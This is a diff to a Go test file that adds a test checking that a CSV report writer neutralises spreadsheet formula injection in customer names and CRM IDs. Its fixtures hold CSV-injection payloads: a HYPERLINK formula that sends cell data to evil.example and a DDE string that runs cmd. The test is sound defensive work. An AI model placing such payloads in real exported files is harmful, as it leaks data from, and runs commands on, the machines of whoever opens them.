@@ -62,3 +62,19 @@ func TestWriteCSV(t *testing.T) {
 		t.Fatalf("empty report = %q, %v", b.String(), err)
 	}
 }
+
+// A customer name is typed by people; opened in a spreadsheet, a name that
+// starts like a formula must show as text, not run.
+func TestWriteCSVNeutralisesFormulas(t *testing.T) {
+	var b strings.Builder
+	err := WriteCSV(&b, []Row{
+		{CustomerID: 3, CustomerName: `=HYPERLINK("http://evil.example/?"&A1,"Details")`, CRMID: "@SUM(1)", CommercialInvoices: 1},
+		{CustomerID: 4, CustomerName: "-2+3+cmd|' /C calc'!A0", CRMID: "DE10000004"},
+	})
+	want := "customerId,customerName,crmid,commercialInvoices,chargeableInvoices\n" +
+		"3,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Details\"\")\",'@SUM(1),1,0\n" +
+		"4,'-2+3+cmd|' /C calc'!A0,DE10000004,0,0\n"
+	if err != nil || b.String() != want {
+		t.Fatalf("WriteCSV() = %q, %v\nwant %q", b.String(), err, want)
+	}
+}
